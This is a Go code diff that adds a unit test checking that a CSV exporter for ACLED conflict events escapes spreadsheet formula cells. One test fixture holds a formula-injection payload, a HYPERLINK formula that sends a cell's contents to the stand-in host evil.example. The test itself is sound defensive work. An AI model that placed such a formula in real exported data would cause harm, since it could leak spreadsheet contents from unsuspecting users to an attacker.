@@ -6,6 +6,7 @@ import (
 	"errors"
 	"io"
 	"reflect"
+	"strconv"
 	"strings"
 	"testing"
 )
@@ -285,3 +286,42 @@ func FuzzACLED(f *testing.F) {
 }
 
 func newCSVWriter(w io.Writer) *csv.Writer { return csv.NewWriter(w) }
+
+// TestACLEDFormulaCells: text a spreadsheet would run as a formula is
+// written with a leading ', and reads back as it was.
+func TestACLEDFormulaCells(t *testing.T) {
+	rows := readAllACLED(t, acledHeader+"\n"+acledGood+"\n")
+	e := *event(rows[0])
+	e.Actors = []string{`=HYPERLINK("http://evil.example/?"&A1;"click")`, "@evil"}
+	e.Notes = "-2 shells, +1 mortar"
+	idx := SourceIndex{rows[0].Sources[0].ID: rows[0].Sources[0]}
+	var b bytes.Buffer
+	w, err := NewACLEDWriter(&b, idx)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Write(e); err != nil {
+		t.Fatal(err)
+	}
+	if err := w.Flush(); err != nil {
+		t.Fatal(err)
+	}
+	recs, err := csv.NewReader(strings.NewReader(b.String())).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	for _, cell := range recs[1] {
+		if cell != "" && strings.ContainsRune("=+@\t\r", rune(cell[0])) || strings.HasPrefix(cell, "-") && !isNumber(cell) {
+			t.Errorf("cell %q would run as a formula", cell)
+		}
+	}
+	back := readAllACLED(t, b.String())
+	if len(back) != 1 || back[0].Err != nil {
+		t.Fatalf("%+v", back)
+	}
+	if got := *event(back[0]); !reflect.DeepEqual(got, e) {
+		t.Errorf("round trip:\n got %+v\nwant %+v", got, e)
+	}
+}
+
+func isNumber(s string) bool { _, err := strconv.ParseFloat(s, 64); return err == nil }
